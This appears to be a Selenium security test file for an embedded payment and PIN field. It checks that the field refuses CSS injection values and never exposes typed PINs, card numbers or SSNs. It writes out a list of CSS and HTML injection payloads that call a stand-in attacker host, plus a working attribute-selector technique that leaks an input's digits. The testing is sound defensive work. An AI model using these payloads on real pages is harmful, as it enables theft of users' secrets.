// @ts-check
// Rows 21 and 22: style values and texts that the page chooses, and selectors on attributes.
import assert from 'node:assert/strict';
import { describe } from 'node:test';
import { By } from 'selenium-webdriver';
import { clickOn, press } from '../browser/support/keys.mjs';
import { until } from '../browser/support/wait.mjs';
import { row } from './support/row.mjs';
import { useAttackScene } from './support/scene.mjs';
import { CARD, PIN, SSN, USES } from './support/victim.mjs';

describe('style', () => {
  const scene = useAttackScene();

  /** @param {string} name */
  const isLeaked = (name) => scene.attacker.log().includes(`GET /leak?${name}`);

  row('21 style values that load, select or end something', ({ attack, control }) => {
    /** @param {string} url */
    const hostile = (url) => [
      `url(${url})`,
      `URL( "${url}" )`,
      `u\\72l(${url})`,
      `image-set("${url}" 1x)`,
      `-webkit-image-set(url(${url}) 1x)`,
      `red; background: url(${url})`,
      `red } * { background: url(${url})`,
      `red /* */ ; background: url(${url})`,
      `@import "${url}";`,
      `expression(fetch("${url}"))`,
      `var(--x, url(${url}))`,
      `attr(value)`,
      `env(x, url(${url}))`,
      `"Arial"; src: url(${url})`,
      `Arial", url(${url}), "`,
      `12px; background-image: url(${url})`,
      `calc(1px + 1px)`,
      `red\n;background:url(${url})`,
      `</style><img src=${url}>`,
    ];

    attack('all are refused as a whole, and nothing is requested', async () => {
      const victim = await scene.victim('pin');
      await victim.type('pin', PIN);
      const values = hostile(scene.evil('leak?vault'));
      const names = [
        'colorBackground',
        'fontFamily',
        'fontSize',
        'lineHeight',
        '--background',
        '__proto__',
      ];
      await victim.run(
        `const [names, values] = arguments;
        for (const name of names) for (const value of values) {
          victim.session.update({ appearance: { variables: JSON.parse(JSON.stringify({ name: value }).replace('"name"', JSON.stringify(name))) } });
        }`,
        names,
        values,
      );
      await until('each is refused', async () => {
        const refused = (await victim.told()).filter(
          ({ type, detail }) => type === 'error' && detail.code === 'invalid-options',
        );
        return refused.length === names.length * values.length;
      });
      assert.equal(await victim.inside('pin', 'return document.documentElement.style.cssText'), '');
      await scene.settle();
      assert.ok(!isLeaked('vault'));
      assert.equal(await victim.field('pin').value(), PIN);
    });
    attack('texts of the page are shown as text', async () => {
      const text = `<img src=${scene.evil('leak?label')}><style>*{background:url(${scene.evil('leak?label')})}</style>`;
      const victim = await scene.victimPage();
      const fields = [
        {
          name: 'pin',
          kind: 'pin',
          options: { label: text.slice(0, 80), placeholder: text.slice(0, 80) },
        },
      ];
      await scene.open(victim, 'pin', {
        fields,
        session: { locale: `en"><style>*{background:url(${scene.evil('leak?label')})}` },
      });
      assert.equal(
        await victim.inside('pin', "return document.querySelector('label').textContent"),
        text.slice(0, 80),
      );
      // The one style element is the field's own, in its head, and the policy names its hash.
      assert.equal(
        await victim.inside('pin', "return document.querySelectorAll('img, body style').length"),
        0,
      );
      assert.equal(
        await victim.inside('pin', "return document.querySelectorAll('style').length"),
        1,
      );
      assert.ok(!isLeaked('label'));
    });
    attack(
      "words of the page that replace the frame's words are shown as text, and only in their places",
      async () => {
        const text = `<img src=${scene.evil('leak?word')}><style>*{background:red}</style>`.slice(
          0,
          80,
        );
        const words = {
          cardNumber: text,
          show: text,
          copy: text,
          hidden: '4 1 1 1',
          covered: text,
        };
        const victim = await scene.viewedCard({ session: { words } });
        const READ = `
        const at = (selector, name) => [...document.querySelectorAll(selector)].map((e) => name ? e.getAttribute(name) : e.textContent);
        return [at(".label"), at("button", "aria-label"), at(".seen"), at("img, body style")];`;
        const [labels, buttons, seen, made] = await victim.inside('number', READ);
        assert.deepEqual([labels, buttons], [[text], [`${text}: ${text}`, `${text}: ${text}`]]);
        assert.deepEqual(made, []);
        assert.ok(/^[•\s]+$/.test(seen[0]), 'the mask is not a word');
        assert.ok(
          (await victim.reveal('number')).seen.startsWith(CARD.number.slice(0, 4)),
          'the number is not a word',
        );
        await scene.settle();
        assert.ok(!isLeaked('word'));
      },
    );
    attack(
      'words that reorder, break or stretch the text around them are refused with the session',
      async () => {
        const victim = await scene.victimPage();
        const token = await scene.tokenFor('pin');
        for (const words of [
          { show: '\u202e0000' },
          { show: 'a\nb' },
          { show: 'a'.repeat(81) },
          { show: { html: 'a' } },
          { hide: 'a' },
        ]) {
          const end = await victim.open({ ...USES.pin, token, session: { words } });
          assert.equal('error' in end && end.error.code, 'invalid-options', JSON.stringify(words));
        }
      },
    );
    control(
      'a page that writes them into a style sheet sends a request to the attacker',
      async () => {
        await scene.visit('/clipboard.html');
        await scene.driver.executeScript(
          "const style = document.createElement('style');" +
            "style.textContent = 'input { color: ' + arguments[0] + ' }';" +
            'document.head.append(style);',
          `red; background: url(${scene.evil('leak?plain')})`,
        );
        await until('it is asked', () => isLeaked('plain'));
      },
    );
  });

  row('22 attribute selectors on typed or shown values', ({ attack, control }) => {
    const ATTRIBUTES = `
      return [...document.querySelectorAll("*")].flatMap((e) => [...e.attributes].map((a) => a.value)).concat(document.title);`;

    attack('no attribute ever holds the value', async () => {
      const pin = await scene.victim('pin');
      await pin.type('pin', PIN);
      await pin.field('pin').toggle();
      assert.equal(await pin.field('pin').value(), PIN);
      assert.ok(!(await pin.inside('pin', ATTRIBUTES)).join('\n').includes(PIN));

      const person = await scene.victim('ssn');
      await person.type('ssn', SSN);
      assert.ok(
        !(await person.inside('ssn', ATTRIBUTES)).join('\n').replaceAll('-', '').includes(SSN),
      );

      const card = await scene.viewedCard();
      const { seen } = await card.reveal('number');
      const attributes = (await card.inside('number', ATTRIBUTES)).join('\n');
      for (const part of [CARD.number, ...seen.split(' ')])
        assert.ok(!attributes.includes(part), attributes);
    });
    control('a style sheet reads the first digit of an input that reflects its value', async () => {
      await scene.visit('/clipboard.html');
      const { driver } = scene;
      await driver.executeScript(
        `const input = document.querySelector("input");
        input.addEventListener("input", () => input.setAttribute("value", input.value));
        const rules = Array.from({ length: 10 }, (_, digit) => \`input[value^="\${digit}"] { background: url(\${arguments[0]}\${digit}) }\`);
        document.head.append(Object.assign(document.createElement("style"), { textContent: rules.join("\\n") }));`,
        scene.evil('leak?first'),
      );
      await clickOn(driver, await driver.findElement(By.css('input')));
      await press(driver, PIN);
      await until('the attacker knows it', () => isLeaked(`first${PIN[0]}`));
    });
  });
});
